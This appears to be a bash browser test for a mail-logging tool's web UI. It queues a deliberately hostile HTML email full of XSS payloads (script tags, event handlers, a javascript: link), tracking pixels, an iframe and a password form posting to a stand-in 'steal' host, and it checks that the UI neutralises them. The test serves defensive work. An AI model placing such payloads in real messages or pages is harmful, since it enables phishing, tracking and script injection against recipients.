#!/usr/bin/env bash
# The web UI in Debian's Chromium (tests/browser/ui.mjs and its scenarios, playwright-core from npm)
# against `mailtrail serve --listen` over the demo mail and a hostile message.
# Screenshots of the pages land in build/screenshots for review; playwright-core
# is installed (npm ci, as tests/browser/package-lock.json pins it) in build/browser.
source "$(dirname "$0")/lib.sh"

build_dir=$(dirname "$MAILTRAIL_BIN")
browser_dir=$build_dir/browser
if [[ ! -x /usr/bin/chromium ]] || ! command -v node >/dev/null; then
  echo "not ok - Chromium and Node.js are needed (scripts/install-deps.sh installs them)"
  exit 1
fi
if [[ ! -d "$browser_dir/node_modules/playwright-core" ]] ||
   ! cmp -s "$REPO/tests/browser/package-lock.json" "$browser_dir/package-lock.json"; then
  mkdir -p "$browser_dir"
  cp "$REPO/tests/browser/package.json" "$REPO/tests/browser/package-lock.json" "$browser_dir/"
  (cd "$browser_dir" && npm ci --no-audit --no-fund --loglevel=error) >"$WORK/npm.log" 2>&1 ||
    { cat "$WORK/npm.log"; echo "not ok - npm ci of playwright-core"; exit 1; }
fi

standard_setup
queue "$REPO"/demo/queue/*.eml
cat >"$WORK/hostile.eml" <<'MAIL'
From: Ann Smith <ann.smith@adatum.example>
To: Jim Olivo <jim.olivo@cronus.example>
Subject: Hostile offer
Date: Mon, 02 Nov 2026 10:00:00 +0000
Message-ID: <hostile-1@adatum.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body{background:url(https://tracker.example/css.gif)}</style>
<script>alert("script")</script></head>
<body onload="alert('onload')"><p>Dear Jim,</p>
<p onmouseover="alert('hover')">see <a href="javascript:alert('link')">our offer</a>.</p>
<img src="https://tracker.example/pixel.gif" onerror="alert('onerror')">
<svg><script>alert("svg")</script></svg>
<iframe src="https://tracker.example/frame"></iframe>
<form action="https://tracker.example/steal"><input name="password"></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
</body></html>
MAIL
queue "$WORK/hostile.eml"
cat >"$WORK/attached.eml" <<'MAIL'
From: Jim Olivo <jim.olivo@cronus.example>
To: Ann Smith <ann.smith@adatum.example>
Subject: Price list attached
Date: Mon, 02 Nov 2026 11:00:00 +0000
Message-ID: <attached-1@cronus.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

Please find our price list attached.
--b
Content-Type: text/html
Content-Disposition: attachment; filename="price list.html"

<script>alert("attachment")</script><p>Prices</p>
--b--
MAIL
queue "$WORK/attached.eml"
mt log-email
check "the demo and the hostile message are logged" equals "$rc" 0
# Left in the queue for the Job Queue page's run now to log; the email logging job
# stays on hold as setup created it, so that nothing else runs it first.
sed -e 's/^Subject: .*/Subject: Logged by run now/' -e 's/^Message-ID: .*/Message-ID: <run-now-1@cronus.example>/' \
  "$REPO/demo/queue/01-outbound-quote.eml" >"$WORK/run-now.eml"
queue "$WORK/run-now.eml"
mt jobs list --format json
check "the email logging job waits on hold" equals "$(jq -r '.[0].status' <<<"$out")" "on hold"
# A relog of the storage folder, on hold, for the Job Queue page to run now.
mt jobs add --object relog
check "a relog job is added" equals "$rc" 0
mt user add reader --permission-set BASIC <<<"correct horse battery"
mt user add editor --permission-set RM-CONT <<<"correct horse battery"
mt user add admin --permission-set EMAIL-LOGGING-ADMIN <<<"correct horse battery"

"$MAILTRAIL_BIN" --db "$DB" serve --worker browser --no-push --listen 127.0.0.1:0 \
  >"$WORK/serve.out" 2>"$WORK/serve.err" &
server=$!
url=""
for _ in $(seq 1 100); do
  url=$(grep -o 'http://127.0.0.1:[0-9]*' "$WORK/serve.err" | head -1)
  [[ -n "$url" ]] && break
  sleep 0.1
done
check "serve --listen serves the web UI" contains "$url" "http://127.0.0.1:"

# Run from beside its node_modules, where an ES module finds playwright-core.
cp "$REPO"/tests/browser/*.mjs "$browser_dir/"
node "$browser_dir/ui.mjs" "$url/" reader editor admin "correct horse battery" "$build_dir/screenshots" >"$WORK/ui.out" 2>&1
ui_status=$?
cat "$WORK/ui.out"
check "the browser checks pass" equals "$ui_status" 0

kill -TERM "$server"
wait "$server"
finish
